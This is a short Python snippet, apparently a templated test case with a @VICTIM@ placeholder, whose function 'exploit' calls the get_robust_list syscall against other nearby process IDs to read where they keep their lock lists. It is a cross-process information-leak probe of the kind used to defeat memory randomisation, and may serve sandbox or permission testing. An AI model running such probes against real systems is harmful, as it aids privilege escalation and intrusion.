# naive: assert
# Calls that name a process and are allowed, since a process may ask about itself: about others they say what exists,
# and where it keeps its locks.
def exploit(X):
    me, head, size = os.getpid(), ctypes.c_void_p(), ctypes.c_size_t()
    for pid in [@VICTIM@, os.getppid(), *range(max(me - 40, 2), me + 40)]:
        try:
            if pid not in (0, me):  # 0 is oneself
                syscall(274, 100, pid, ctypes.byref(head), ctypes.byref(size))  # get_robust_list
                return True
        except OSError:
            pass
    return False
